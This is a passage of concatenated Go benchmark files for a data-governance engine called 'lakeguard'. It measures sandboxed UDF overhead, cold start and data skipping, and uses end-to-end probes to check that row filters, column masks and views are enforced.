	adminC := connect.Dial(stdHTTP.URL, "t")
	if _, err := adminC.ExecSQL("CREATE TABLE wide (id BIGINT, payload STRING)"); err != nil {
		return 0, err
	}
	const chunk = 500
	for start := 0; start < rows; start += chunk {
		end := start + chunk
		if end > rows {
			end = rows
		}
		var sb strings.Builder
		sb.WriteString("INSERT INTO wide VALUES ")
		for i := start; i < end; i++ {
			if i > start {
				sb.WriteString(", ")
			}
			fmt.Fprintf(&sb, "(%d, 'payload-%032d')", i, i)
		}
		if _, err := adminC.ExecSQL(sb.String()); err != nil {
			return 0, err
		}
	}
	if _, err := adminC.ExecSQL("ALTER TABLE wide SET ROW FILTER 'id >= 0'"); err != nil {
		return 0, err
	}
	if _, err := adminC.ExecSQL("GRANT SELECT ON wide TO 'u1'"); err != nil {
		return 0, err
	}

	user := connect.Dial(dedHTTP.URL, "t-u")
	// Warm up.
	if _, err := user.Sql("SELECT id, payload FROM wide").Collect(); err != nil {
		return 0, err
	}
	times := make([]time.Duration, reps)
	for i := range times {
		start := time.Now()
		b, err := user.Sql("SELECT id, payload FROM wide").Collect()
		if err != nil {
			return 0, err
		}
		if b.NumRows() != rows {
			return 0, fmt.Errorf("bench: expected %d rows, got %d", rows, b.NumRows())
		}
		times[i] = time.Since(start)
	}
	return median(times), nil
}

// FormatEFGACModes renders the sweep.
func FormatEFGACModes(rows []EFGACModeRow) string {
	var b strings.Builder
	b.WriteString("E8: eFGAC result modes — inline return vs cloud-storage spill.\n\n")
	b.WriteString("| Result rows | Inline | Spill |\n")
	b.WriteString("|-------------|--------|-------|\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "| %11d | %6s | %5s |\n", r.Rows, r.Inline.Round(time.Microsecond), r.Spill.Round(time.Microsecond))
	}
	return b.String()
}
