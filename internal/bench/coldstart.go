package bench

import (
	"time"

	"lakeguard/internal/analyzer"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/types"
)

// ColdStartConfig parametrizes the sandbox startup experiment (paper §5,
// last paragraph).
type ColdStartConfig struct {
	// Provision is the simulated sandbox provisioning delay. The paper
	// observed ≈2 s maximum in production; the harness default is scaled to
	// keep runs fast while preserving the cold ≫ warm shape.
	Provision time.Duration
	// Rows per query.
	Rows int
	// WarmQueries measures amortization across a session.
	WarmQueries int
}

// DefaultColdStartConfig uses a scaled provisioning delay.
func DefaultColdStartConfig() ColdStartConfig {
	return ColdStartConfig{Provision: 400 * time.Millisecond, Rows: 20_000, WarmQueries: 5}
}

// ColdStartResult reports first-query vs steady-state latency.
type ColdStartResult struct {
	// FirstQuery includes sandbox provisioning (cold start).
	FirstQuery time.Duration
	// WarmQueries are the subsequent per-query latencies in the same
	// session (sandbox reused).
	WarmQueries []time.Duration
	// ColdStarts is the number of sandbox provisions observed (must be 1:
	// the cost is paid once per session).
	ColdStarts int64
}

// WarmMedian returns the steady-state latency.
func (r ColdStartResult) WarmMedian() time.Duration {
	cp := append([]time.Duration{}, r.WarmQueries...)
	return median(cp)
}

// RunColdStart measures the first Python-UDF query of a session (which pays
// sandbox provisioning) against subsequent queries that reuse the warm
// sandbox.
func RunColdStart(cfg ColdStartConfig) (ColdStartResult, error) {
	if cfg.Rows == 0 {
		cfg = DefaultColdStartConfig()
	}
	w := NewWorld(sandbox.Config{ColdStart: cfg.Provision})
	if err := w.SeedPairs(cfg.Rows); err != nil {
		return ColdStartResult{}, err
	}
	pl, err := w.PreparePlan(UDFQuery(udfNames(1)), func(a *analyzer.Analyzer) {
		RegisterBenchUDFs(a, 1, SimpleUDFBody, types.KindInt64, Admin)
	}, optimizer.DefaultOptions())
	if err != nil {
		return ColdStartResult{}, err
	}
	var res ColdStartResult
	start := time.Now()
	if _, err := w.Run(pl); err != nil {
		return ColdStartResult{}, err
	}
	res.FirstQuery = time.Since(start)
	for i := 0; i < cfg.WarmQueries; i++ {
		start = time.Now()
		if _, err := w.Run(pl); err != nil {
			return ColdStartResult{}, err
		}
		res.WarmQueries = append(res.WarmQueries, time.Since(start))
	}
	res.ColdStarts = w.Dispatcher.Stats().ColdStarts
	return res, nil
}
