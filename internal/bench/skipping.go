package bench

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"lakeguard/internal/optimizer"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/telemetry"
)

// SkippingConfig sizes the data-skipping experiment: a clustered multi-file
// table queried with a selective range predicate, with and without zone-map
// pruning.
type SkippingConfig struct {
	// Rows is the total table size.
	Rows int
	// RowsPerFile sets file granularity; the id column is clustered, so
	// each file covers a disjoint id range and range predicates prune.
	RowsPerFile int
	// ReadLatency is the simulated per-file object-store GET latency used
	// for the modeled-latency series (see ExecScalingConfig.ReadLatency).
	ReadLatency time.Duration
	// Repetitions per series; the minimum wall time is kept.
	Repetitions int
}

// DefaultSkippingConfig is the recorded experiment: 200k rows across ~49
// files, selecting a single file's id range, with 12ms simulated GET latency.
func DefaultSkippingConfig() SkippingConfig {
	return SkippingConfig{
		Rows:        200_000,
		RowsPerFile: 4096,
		ReadLatency: 12 * time.Millisecond,
		Repetitions: 3,
	}
}

// SkippingWarmRepeat records what the second run of the same query cost after
// the snapshot and batch caches are warm.
type SkippingWarmRepeat struct {
	// LogEntriesReplayed is how many delta-log entries the warm run decoded
	// (the snapshot cache target is zero: the tail is confirmed via LIST).
	LogEntriesReplayed int64 `json:"log_entries_replayed"`
	SnapshotCacheHits  int64 `json:"snapshot_cache_hits"`
	BatchCacheHits     int64 `json:"batch_cache_hits"`
	// StorageGets is the number of object-store GETs the warm run issued.
	StorageGets int64 `json:"storage_gets"`
}

// SkippingResult is the full recorded experiment, serialized to
// BENCH_skipping.json.
type SkippingResult struct {
	Rows          int     `json:"rows"`
	Files         int     `json:"files"`
	ReadLatencyMS float64 `json:"read_latency_ms"`
	Query         string  `json:"query"`
	// FilesScanned/FilesPruned are the zone-map outcome for one cold run.
	FilesScanned int64 `json:"files_scanned"`
	FilesPruned  int64 `json:"files_pruned"`
	// BaselineGets/SkippingGets count every object-store GET (log replay
	// plus data files) for one cold run of the query.
	BaselineGets int64   `json:"baseline_gets"`
	SkippingGets int64   `json:"skipping_gets"`
	GetReduction float64 `json:"get_reduction"`
	// Latency-modeled wall times: each data-file GET pays ReadLatency.
	BaselineLatencyMS float64            `json:"baseline_latency_modeled_ms"`
	SkippingLatencyMS float64            `json:"skipping_latency_modeled_ms"`
	LatencySpeedup    float64            `json:"latency_speedup"`
	WarmRepeat        SkippingWarmRepeat `json:"warm_repeat"`
}

// FormatJSON renders the result for BENCH_skipping.json.
func (r *SkippingResult) FormatJSON() ([]byte, error) {
	return json.MarshalIndent(r, "", "  ")
}

// skippingWorld builds a fresh world with the clustered events table, metrics
// wired, and the selective single-file query prepared.
func skippingWorld(cfg SkippingConfig) (*World, *telemetry.Registry, string, int, error) {
	w := NewWorld(sandbox.Config{})
	m := telemetry.NewRegistry()
	w.Cat.SetMetrics(m)
	w.Engine.Metrics = m
	files, err := w.SeedEvents(cfg.Rows, cfg.RowsPerFile)
	if err != nil {
		return nil, nil, "", 0, err
	}
	// SeedEvents clusters id per file, so this range lives in exactly one
	// of the `files` data files.
	lo := 3 * cfg.RowsPerFile
	if lo >= cfg.Rows {
		lo = 0
	}
	hi := lo + cfg.RowsPerFile
	query := fmt.Sprintf("SELECT SUM(v) AS total, COUNT(*) AS n FROM events WHERE id >= %d AND id < %d", lo, hi)
	return w, m, query, files, nil
}

// RunSkipping measures the data-skipping experiment: cold GET counts and
// modeled latency with pruning disabled vs enabled (separate worlds so no
// cache warms the comparison), then a warm repeat on the pruned world.
func RunSkipping(cfg SkippingConfig) (*SkippingResult, error) {
	res := &SkippingResult{
		Rows:          cfg.Rows,
		ReadLatencyMS: float64(cfg.ReadLatency) / float64(time.Millisecond),
	}

	// One cold series per mode: fresh world, count GETs on the first run,
	// keep the minimum wall time across repetitions (the modeled per-file
	// sleep repeats identically, so later reps measure the same work).
	series := func(disable bool) (gets int64, wall time.Duration, m *telemetry.Registry, w *World, err error) {
		w, m, query, files, err := skippingWorld(cfg)
		if err != nil {
			return 0, 0, nil, nil, err
		}
		res.Files = files
		res.Query = query
		w.Engine.DisableSkipping = disable
		w.Engine.Tables = NewLatencyTables(w.Cat, cfg.ReadLatency)
		p, err := w.PreparePlan(query, nil, optimizer.DefaultOptions())
		if err != nil {
			return 0, 0, nil, nil, err
		}
		getsBefore, _ := w.Cat.Store().Stats()
		for rep := 0; rep < cfg.Repetitions; rep++ {
			start := time.Now()
			n, err := w.Run(p)
			took := time.Since(start)
			if err != nil {
				return 0, 0, nil, nil, err
			}
			if n == 0 {
				return 0, 0, nil, nil, fmt.Errorf("bench: skipping query returned no rows")
			}
			if rep == 0 {
				getsAfter, _ := w.Cat.Store().Stats()
				gets = getsAfter - getsBefore
				wall = took
			} else if took < wall {
				wall = took
			}
		}
		return gets, wall, m, w, nil
	}

	baseGets, baseWall, _, _, err := series(true)
	if err != nil {
		return nil, err
	}
	skipGets, skipWall, m, w, err := series(false)
	if err != nil {
		return nil, err
	}
	res.BaselineGets, res.SkippingGets = baseGets, skipGets
	res.GetReduction = float64(baseGets) / float64(skipGets)
	res.BaselineLatencyMS = float64(baseWall) / float64(time.Millisecond)
	res.SkippingLatencyMS = float64(skipWall) / float64(time.Millisecond)
	res.LatencySpeedup = float64(baseWall) / float64(skipWall)
	res.FilesScanned = m.Counter("scan.files.scanned").Value()
	res.FilesPruned = m.Counter("scan.files.pruned").Value()
	if cfg.Repetitions > 1 {
		// Repetitions re-scan the surviving file; normalize to one run.
		res.FilesScanned /= int64(cfg.Repetitions)
		res.FilesPruned /= int64(cfg.Repetitions)
	}

	// Warm repeat on the pruned world, without the modeled latency so the
	// numbers isolate cache behavior: the snapshot cache must advance by
	// LIST alone (zero log-entry replays) and the surviving file must come
	// from the batch cache (zero GETs).
	w.Engine.Tables = w.Cat
	p, err := w.PreparePlan(res.Query, nil, optimizer.DefaultOptions())
	if err != nil {
		return nil, err
	}
	replayedBefore := m.Counter("snapshot.entries.replayed").Value()
	snapHitsBefore := m.Counter("snapshot.cache.hit").Value()
	batchHitsBefore := m.Counter("batch.cache.hits").Value()
	getsBefore, _ := w.Cat.Store().Stats()
	if _, err := w.Run(p); err != nil {
		return nil, err
	}
	getsAfter, _ := w.Cat.Store().Stats()
	res.WarmRepeat = SkippingWarmRepeat{
		LogEntriesReplayed: m.Counter("snapshot.entries.replayed").Value() - replayedBefore,
		SnapshotCacheHits:  m.Counter("snapshot.cache.hit").Value() - snapHitsBefore,
		BatchCacheHits:     m.Counter("batch.cache.hits").Value() - batchHitsBefore,
		StorageGets:        getsAfter - getsBefore,
	}
	return res, nil
}

// FormatSkipping renders the experiment in the report layout.
func FormatSkipping(r *SkippingResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Data skipping: %d rows in %d files, modeled GET latency %.0fms\n", r.Rows, r.Files, r.ReadLatencyMS)
	fmt.Fprintf(&b, "query: %s\n\n", r.Query)
	fmt.Fprintf(&b, "%-28s %12s %12s\n", "", "baseline", "skipping")
	fmt.Fprintf(&b, "%-28s %12d %12d\n", "object-store GETs (cold)", r.BaselineGets, r.SkippingGets)
	fmt.Fprintf(&b, "%-28s %12.1f %12.1f\n", "latency-modeled wall ms", r.BaselineLatencyMS, r.SkippingLatencyMS)
	fmt.Fprintf(&b, "\nfiles scanned %d, pruned %d — %.1fx fewer GETs, %.1fx faster under modeled latency\n",
		r.FilesScanned, r.FilesPruned, r.GetReduction, r.LatencySpeedup)
	fmt.Fprintf(&b, "warm repeat: %d log entries replayed, %d storage GETs, snapshot cache hits +%d, batch cache hits +%d\n",
		r.WarmRepeat.LogEntriesReplayed, r.WarmRepeat.StorageGets, r.WarmRepeat.SnapshotCacheHits, r.WarmRepeat.BatchCacheHits)
	return b.String()
}
