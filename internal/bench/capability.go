package bench

import (
	"fmt"
	"net/http/httptest"
	"strings"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/storage"
	"lakeguard/internal/types"
)

// CapabilityRow is one row of the reproduced Table 1. The Lakeguard column
// is the outcome of an actual end-to-end probe against this implementation;
// the baseline columns reproduce the paper's reported values as documented
// constants (those systems are proprietary and cannot be probed here).
type CapabilityRow struct {
	Property  string
	Lakeguard string
	Probed    bool // whether the Lakeguard cell came from a live probe
	Membrane  string
	LakeForm  string
	Fabric    string
	BigLake   string
}

// RunTable1 probes this implementation for every capability in Table 1.
func RunTable1() ([]CapabilityRow, error) {
	p, err := newProbeWorld()
	if err != nil {
		return nil, err
	}
	defer p.Close()

	rows := []CapabilityRow{
		{
			Property:  "Unified Policies for DW and DS/DE",
			Lakeguard: check(p.probeUnifiedPolicies()),
			Probed:    true,
			Membrane:  "x", LakeForm: "x", Fabric: "DWH Only", BigLake: "ok",
		},
		{
			Property:  "Catalog UDFs",
			Lakeguard: labelOK(p.probeCatalogUDF(), "PyLite"),
			Probed:    true,
			Membrane:  "x", LakeForm: "x", Fabric: "x", BigLake: "BQ Stored Procedures",
		},
		{
			Property:  "Single User languages",
			Lakeguard: labelOK(p.probeSingleUserLanguages(), "SQL, PyLite, Go DataFrame"),
			Probed:    true,
			Membrane:  "SQL, Python, Scala, R", LakeForm: "n/a", Fabric: "SQL, Python, Scala, R", BigLake: "SQL, Python, Scala, R",
		},
		{
			Property:  "Multi-User languages",
			Lakeguard: labelOK(p.probeMultiUser(), "SQL, PyLite, Go DataFrame"),
			Probed:    true,
			Membrane:  "x", LakeForm: "n/a", Fabric: "SQL (DWH Only)", BigLake: "x",
		},
		{
			Property:  "Row-Filter",
			Lakeguard: check(p.probeRowFilter()),
			Probed:    true,
			Membrane:  "ok", LakeForm: "ok", Fabric: "x", BigLake: "ok",
		},
		{
			Property:  "Column-Masks",
			Lakeguard: check(p.probeColumnMask()),
			Probed:    true,
			Membrane:  "ok", LakeForm: "ok", Fabric: "x", BigLake: "ok",
		},
		{
			Property:  "Views",
			Lakeguard: check(p.probeViews()),
			Probed:    true,
			Membrane:  "ok", LakeForm: "x", Fabric: "ok", BigLake: "x",
		},
		{
			Property:  "Materialized Views",
			Lakeguard: check(p.probeMaterializedViews()),
			Probed:    true,
			Membrane:  "x", LakeForm: "x", Fabric: "x", BigLake: "x",
		},
		{
			Property:  "External Filtering",
			Lakeguard: check(p.probeExternalFiltering()),
			Probed:    true,
			Membrane:  "x", LakeForm: "ok", Fabric: "x", BigLake: "BQ Storage API",
		},
	}
	return rows, nil
}

func check(ok bool) string {
	if ok {
		return "ok"
	}
	return "FAILED"
}

func labelOK(ok bool, label string) string {
	if ok {
		return label
	}
	return "FAILED"
}

// probeWorld is a full deployment (standard + dedicated + serverless) used
// by the capability probes.
type probeWorld struct {
	cat        *catalog.Catalog
	std        *httptest.Server
	dedicated  *httptest.Server
	serverless *httptest.Server
}

const (
	probeAdmin = "probe-admin"
	probeUserA = "user-a"
	probeUserB = "user-b"
)

var probeTokens = connect.TokenMap{
	"t-admin": probeAdmin, "t-a": probeUserA, "t-b": probeUserB,
}

func newProbeWorld() (*probeWorld, error) {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(probeAdmin)
	p := &probeWorld{cat: cat}

	serverless := core.NewServer(core.Config{Name: "sl", Catalog: cat, Compute: catalog.ComputeServerless})
	p.serverless = httptest.NewServer(connect.NewService(serverless, probeTokens).Handler())

	tokenFor := map[string]string{probeAdmin: "t-admin", probeUserA: "t-a", probeUserB: "t-b"}
	efgac := &core.EFGACClient{
		Dial: func(user, sessionID string) *connect.Client {
			return connect.Dial(p.serverless.URL, tokenFor[user])
		},
		Cat: cat, Store: cat.Store(),
	}
	std := core.NewServer(core.Config{Name: "std", Catalog: cat, Compute: catalog.ComputeStandard})
	p.std = httptest.NewServer(connect.NewService(std, probeTokens).Handler())
	ded := core.NewServer(core.Config{Name: "ded", Catalog: cat, Compute: catalog.ComputeDedicated, Remote: efgac})
	p.dedicated = httptest.NewServer(connect.NewService(ded, probeTokens).Handler())

	// Shared fixture data.
	admin := connect.Dial(p.std.URL, "t-admin")
	stmts := []string{
		"CREATE TABLE probe (id BIGINT, owner STRING, secret STRING)",
		"INSERT INTO probe VALUES (1, 'user-a', 's1'), (2, 'user-b', 's2'), (3, 'user-a', 's3')",
		"GRANT SELECT ON probe TO 'user-a'",
		"GRANT SELECT ON probe TO 'user-b'",
	}
	for _, s := range stmts {
		if _, err := admin.ExecSQL(s); err != nil {
			return nil, fmt.Errorf("bench: probe fixture %q: %w", s, err)
		}
	}
	return p, nil
}

// Close shuts the probe servers down.
func (p *probeWorld) Close() {
	p.std.Close()
	p.dedicated.Close()
	p.serverless.Close()
}

// probeRowFilter: a row filter restricts user-a to its own rows.
func (p *probeWorld) probeRowFilter() bool {
	admin := connect.Dial(p.std.URL, "t-admin")
	if _, err := admin.ExecSQL("ALTER TABLE probe SET ROW FILTER 'owner = CURRENT_USER()'"); err != nil {
		return false
	}
	defer admin.ExecSQL("ALTER TABLE probe DROP ROW FILTER")
	b, err := connect.Dial(p.std.URL, "t-a").Table("probe").Collect()
	return err == nil && b.NumRows() == 2
}

// probeColumnMask: masked column is hidden from non-owners.
func (p *probeWorld) probeColumnMask() bool {
	admin := connect.Dial(p.std.URL, "t-admin")
	if _, err := admin.ExecSQL("ALTER TABLE probe ALTER COLUMN secret SET MASK '''***'''"); err != nil {
		return false
	}
	defer admin.ExecSQL("ALTER TABLE probe ALTER COLUMN secret DROP MASK")
	b, err := connect.Dial(p.std.URL, "t-a").Sql("SELECT secret FROM probe LIMIT 1").Collect()
	return err == nil && b.NumRows() == 1 && b.Cols[0].StringAt(0) == "***"
}

// probeUnifiedPolicies: the same policy binds the SQL path and the
// DataFrame path — one definition, every workload.
func (p *probeWorld) probeUnifiedPolicies() bool {
	admin := connect.Dial(p.std.URL, "t-admin")
	if _, err := admin.ExecSQL("ALTER TABLE probe SET ROW FILTER 'owner = CURRENT_USER()'"); err != nil {
		return false
	}
	defer admin.ExecSQL("ALTER TABLE probe DROP ROW FILTER")
	ua := connect.Dial(p.std.URL, "t-a")
	viaSQL, err1 := ua.Sql("SELECT COUNT(*) AS n FROM probe").Collect()
	viaDF, err2 := ua.Table("probe").Count()
	return err1 == nil && err2 == nil && viaSQL.Cols[0].Int64(0) == 2 && viaDF == 2
}

// probeCatalogUDF: a cataloged function executes under EXECUTE grants.
func (p *probeWorld) probeCatalogUDF() bool {
	admin := connect.Dial(p.std.URL, "t-admin")
	if _, err := admin.ExecSQL("CREATE OR REPLACE FUNCTION probe_fn(x BIGINT) RETURNS BIGINT AS 'return x * 10'"); err != nil {
		return false
	}
	if _, err := admin.ExecSQL("GRANT EXECUTE ON probe_fn TO 'user-a'"); err != nil {
		return false
	}
	b, err := connect.Dial(p.std.URL, "t-a").Sql("SELECT probe_fn(id) AS r FROM probe ORDER BY r LIMIT 1").Collect()
	return err == nil && b.Cols[0].Int64(0) == 10
}

// probeSingleUserLanguages: SQL, the Go DataFrame API, and PyLite UDFs all
// run for a single user.
func (p *probeWorld) probeSingleUserLanguages() bool {
	c := connect.Dial(p.std.URL, "t-a")
	if _, err := c.Sql("SELECT 1 AS one").Collect(); err != nil {
		return false
	}
	if _, err := c.Table("probe").Where(connect.Col("id").Gt(connect.Lit(0))).Collect(); err != nil {
		return false
	}
	if err := c.RegisterFunction("lang_probe", []types.Field{{Name: "x", Kind: types.KindInt64}}, types.KindInt64, "return x + 1"); err != nil {
		return false
	}
	b, err := c.Sql("SELECT lang_probe(1) AS r").Collect()
	return err == nil && b.Cols[0].Int64(0) == 2
}

// probeMultiUser: two identities share one standard cluster; session state
// stays isolated and each user's permissions are enforced independently.
func (p *probeWorld) probeMultiUser() bool {
	ua := connect.Dial(p.std.URL, "t-a")
	ub := connect.Dial(p.std.URL, "t-b")
	if err := ua.Table("probe").CreateTempView("mine"); err != nil {
		return false
	}
	// ub must not see ua's temp view...
	if _, err := ub.Table("mine").Collect(); err == nil {
		return false
	}
	// ...but both can run UDFs concurrently on the shared cluster.
	if err := ua.RegisterFunction("mu_a", nil, types.KindInt64, "return 1"); err != nil {
		return false
	}
	if err := ub.RegisterFunction("mu_b", nil, types.KindInt64, "return 2"); err != nil {
		return false
	}
	ra, err1 := ua.Sql("SELECT mu_a() AS r").Collect()
	rb, err2 := ub.Sql("SELECT mu_b() AS r").Collect()
	return err1 == nil && err2 == nil && ra.Cols[0].Int64(0) == 1 && rb.Cols[0].Int64(0) == 2
}

// probeViews: dynamic views with definer rights.
func (p *probeWorld) probeViews() bool {
	admin := connect.Dial(p.std.URL, "t-admin")
	if _, err := admin.ExecSQL("CREATE OR REPLACE VIEW probe_view AS SELECT id FROM probe WHERE owner = CURRENT_USER()"); err != nil {
		return false
	}
	if _, err := admin.ExecSQL("GRANT SELECT ON probe_view TO 'user-a'"); err != nil {
		return false
	}
	b, err := connect.Dial(p.std.URL, "t-a").Table("probe_view").Collect()
	return err == nil && b.NumRows() == 2
}

// probeMaterializedViews: MV creation, refresh, and governed reads.
func (p *probeWorld) probeMaterializedViews() bool {
	admin := connect.Dial(p.std.URL, "t-admin")
	if _, err := admin.ExecSQL("CREATE OR REPLACE MATERIALIZED VIEW probe_mv AS SELECT owner, COUNT(*) AS n FROM probe GROUP BY owner"); err != nil {
		return false
	}
	if _, err := admin.ExecSQL("REFRESH MATERIALIZED VIEW probe_mv"); err != nil {
		return false
	}
	b, err := admin.Sql("SELECT * FROM probe_mv ORDER BY n DESC").Collect()
	return err == nil && b.NumRows() == 2
}

// probeExternalFiltering: a dedicated cluster reads an FGAC-protected table
// through eFGAC, with the policy applied remotely.
func (p *probeWorld) probeExternalFiltering() bool {
	admin := connect.Dial(p.std.URL, "t-admin")
	if _, err := admin.ExecSQL("ALTER TABLE probe SET ROW FILTER 'owner = CURRENT_USER()'"); err != nil {
		return false
	}
	defer admin.ExecSQL("ALTER TABLE probe DROP ROW FILTER")
	c := connect.Dial(p.dedicated.URL, "t-a")
	explain, err := c.Table("probe").Explain()
	if err != nil || !strings.Contains(explain, "RemoteScan") {
		return false
	}
	b, err := c.Table("probe").Collect()
	return err == nil && b.NumRows() == 2
}

// FormatTable1 renders the capability matrix.
func FormatTable1(rows []CapabilityRow) string {
	var b strings.Builder
	b.WriteString("Table 1: Governance capability matrix. The Lakeguard column is the\n")
	b.WriteString("result of live end-to-end probes against this implementation; baseline\n")
	b.WriteString("columns reproduce the paper's reported values.\n\n")
	fmt.Fprintf(&b, "| %-34s | %-26s | %-22s | %-14s | %-18s | %-22s |\n",
		"Property", "Lakeguard (probed)", "EMR Membrane", "Lake Formation", "Fabric OneLake", "Dataproc+BigLake")
	b.WriteString("|" + strings.Repeat("-", 36) + "|" + strings.Repeat("-", 28) + "|" +
		strings.Repeat("-", 24) + "|" + strings.Repeat("-", 16) + "|" + strings.Repeat("-", 20) + "|" + strings.Repeat("-", 24) + "|\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "| %-34s | %-26s | %-22s | %-14s | %-18s | %-22s |\n",
			r.Property, r.Lakeguard, r.Membrane, r.LakeForm, r.Fabric, r.BigLake)
	}
	return b.String()
}
