package bench

import (
	"fmt"
	"strings"
	"time"

	"lakeguard/internal/analyzer"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/types"
)

// Table2Config parametrizes the Table 2 reproduction.
type Table2Config struct {
	// SimpleRows is the row count for the movement-bound Sum(a+b) kernel.
	SimpleRows int
	// HashRows is the row count for the CPU-bound 100x SHA256 kernel. It is
	// smaller because each row costs 100 interpreted hash iterations; the
	// paper's metric is a ratio, which is row-count independent once the
	// run is long enough to measure.
	HashRows int
	// UDFCounts are the "Num UDF" sweep points (paper: 1, 2, 5, 10).
	UDFCounts []int
	// Repetitions per measurement (median is reported).
	Repetitions int
	// Fuse toggles the UDF fusion optimization (ablation A1 sets false).
	Fuse bool
}

// DefaultTable2Config matches the paper's sweep at laptop scale.
func DefaultTable2Config() Table2Config {
	return Table2Config{SimpleRows: 120_000, HashRows: 4_000, UDFCounts: []int{1, 2, 5, 10}, Repetitions: 3, Fuse: true}
}

// Table2Row is one row of the reproduced Table 2.
type Table2Row struct {
	NumUDFs int
	// SimpleOverheadPct is the relative worst-case overhead of sandboxed vs
	// unisolated execution of the Sum(a+b) UDF.
	SimpleOverheadPct float64
	// HashOverheadPct is the same for the 100x SHA256 UDF.
	HashOverheadPct float64
	// Raw timings for EXPERIMENTS.md.
	SimpleIsolated, SimpleUnisolated time.Duration
	HashIsolated, HashUnisolated     time.Duration
}

// RunTable2 reproduces Table 2: the relative overhead of executing user code
// in a sandbox versus unisolated in-engine execution, for a movement-bound
// and a CPU-bound UDF, across UDF counts.
func RunTable2(cfg Table2Config) ([]Table2Row, error) {
	if cfg.SimpleRows == 0 {
		cfg = DefaultTable2Config()
	}
	if cfg.HashRows == 0 {
		cfg.HashRows = cfg.SimpleRows / 30
		if cfg.HashRows < 200 {
			cfg.HashRows = 200
		}
	}
	var out []Table2Row
	for _, n := range cfg.UDFCounts {
		row := Table2Row{NumUDFs: n}
		var err error
		row.SimpleIsolated, row.SimpleUnisolated, err = measurePair(cfg, cfg.SimpleRows, n, SimpleUDFBody, types.KindInt64)
		if err != nil {
			return nil, fmt.Errorf("bench: simple udf x%d: %w", n, err)
		}
		row.HashIsolated, row.HashUnisolated, err = measurePair(cfg, cfg.HashRows, n, HashUDFBody, types.KindString)
		if err != nil {
			return nil, fmt.Errorf("bench: hash udf x%d: %w", n, err)
		}
		row.SimpleOverheadPct = overheadPct(row.SimpleIsolated, row.SimpleUnisolated)
		row.HashOverheadPct = overheadPct(row.HashIsolated, row.HashUnisolated)
		out = append(out, row)
	}
	return out, nil
}

func overheadPct(isolated, unisolated time.Duration) float64 {
	if unisolated <= 0 {
		return 0
	}
	return (float64(isolated) - float64(unisolated)) / float64(unisolated) * 100
}

// measurePair times the same UDF query with and without isolation.
func measurePair(cfg Table2Config, rows, numUDFs int, body string, returns types.Kind) (isolated, unisolated time.Duration, err error) {
	isolated, err = measureOnce(cfg, rows, numUDFs, body, returns, false)
	if err != nil {
		return 0, 0, err
	}
	unisolated, err = measureOnce(cfg, rows, numUDFs, body, returns, true)
	if err != nil {
		return 0, 0, err
	}
	return isolated, unisolated, nil
}

func measureOnce(cfg Table2Config, rows, numUDFs int, body string, returns types.Kind, inProcess bool) (time.Duration, error) {
	w := NewWorld(sandbox.Config{}) // no cold-start delay: continuous overhead only
	w.Engine.UnsafeInProcessUDFs = inProcess
	w.Engine.FuseUDFs = cfg.Fuse
	if err := w.SeedPairs(rows); err != nil {
		return 0, err
	}
	opts := optimizer.DefaultOptions()
	opts.FuseUDFs = cfg.Fuse
	// UDF names are deterministic (udf0..udfN-1), so the query can be built
	// up front and the UDFs registered during analysis.
	query := UDFQuery(udfNames(numUDFs))
	pl, err := w.PreparePlan(query, func(an *analyzer.Analyzer) {
		RegisterBenchUDFs(an, numUDFs, body, returns, Admin)
	}, opts)
	if err != nil {
		return 0, err
	}
	// Warm up once (sandbox provisioning, plan caches), then take the
	// median of the repetitions.
	if _, err := w.Run(pl); err != nil {
		return 0, err
	}
	reps := cfg.Repetitions
	if reps < 1 {
		reps = 1
	}
	times := make([]time.Duration, reps)
	for i := range times {
		start := time.Now()
		got, err := w.Run(pl)
		if err != nil {
			return 0, err
		}
		if got != rows {
			return 0, fmt.Errorf("bench: expected %d rows, got %d", rows, got)
		}
		times[i] = time.Since(start)
	}
	return median(times), nil
}

// EnvironmentNoise estimates timing instability by running a fixed CPU
// workload twice and returning the relative difference. CI environments
// sharing cores across concurrent test processes can exceed 0.15, at which
// point timing-based shape assertions are meaningless and tests should
// fall back to structural checks.
func EnvironmentNoise() float64 {
	work := func() time.Duration {
		start := time.Now()
		var acc uint64 = 1469598103934665603
		for i := 0; i < 40_000_000; i++ {
			acc = (acc ^ uint64(i)) * 1099511628211
		}
		if acc == 0 { // defeat dead-code elimination
			return 0
		}
		return time.Since(start)
	}
	a, b := work(), work()
	lo, hi := a, b
	if lo > hi {
		lo, hi = hi, lo
	}
	if lo <= 0 {
		return 1
	}
	return float64(hi-lo) / float64(lo)
}

func median(ts []time.Duration) time.Duration {
	for i := 1; i < len(ts); i++ {
		for j := i; j > 0 && ts[j] < ts[j-1]; j-- {
			ts[j], ts[j-1] = ts[j-1], ts[j]
		}
	}
	return ts[len(ts)/2]
}

// FormatTable2 renders results in the paper's layout.
func FormatTable2(rows []Table2Row) string {
	var b strings.Builder
	b.WriteString("Table 2: Relative worst-case overhead of executing user code in a\n")
	b.WriteString("sandbox vs unisolated execution.\n\n")
	b.WriteString("| Num UDF | Simple UDF Sum(a+b) | Hash UDF 100x SHA256 |\n")
	b.WriteString("|---------|---------------------|----------------------|\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "| %7d | %18.2f%% | %19.2f%% |\n", r.NumUDFs, r.SimpleOverheadPct, r.HashOverheadPct)
	}
	b.WriteString("\nRaw timings (median):\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "  n=%2d simple: sandbox=%v in-process=%v | hash: sandbox=%v in-process=%v\n",
			r.NumUDFs, r.SimpleIsolated, r.SimpleUnisolated, r.HashIsolated, r.HashUnisolated)
	}
	return b.String()
}
