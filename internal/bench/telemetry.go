package bench

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"lakeguard/internal/analyzer"
	"lakeguard/internal/catalog"
	"lakeguard/internal/exec"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/sentinel"
	"lakeguard/internal/sql"
	"lakeguard/internal/systemtables"
	"lakeguard/internal/telemetry"
)

// TelemetryOverheadConfig sizes the instrumentation-cost experiment: the
